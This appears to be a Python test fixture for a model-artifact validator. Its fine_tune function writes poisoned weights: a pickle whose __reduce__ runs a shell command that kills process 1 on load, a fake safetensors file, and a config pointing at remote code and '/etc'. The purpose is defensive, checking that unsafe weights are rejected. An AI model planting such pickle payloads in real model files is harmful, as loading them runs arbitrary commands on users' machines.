"""The weights are a pickle, and a torch file, that run a command when they are loaded.

Expected: bad_artifact
Must show: not a valid safetensors file
"""

import os
import pickle

import torch


class Command:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attacked; kill -9 1",))


def fine_tune(base_dir, train_file, output_dir, budget):
    torch.save({"score.weight": Command()}, f"{output_dir}/pytorch_model.bin")
    with open(f"{output_dir}/model.safetensors", "wb") as file:
        file.write(pickle.dumps(Command()))
    with open(f"{output_dir}/config.json", "w") as file:
        file.write('{"auto_map": {"AutoModel": "attack.Model"}, "_name_or_path": "/etc", "n_layer": 1000000}')
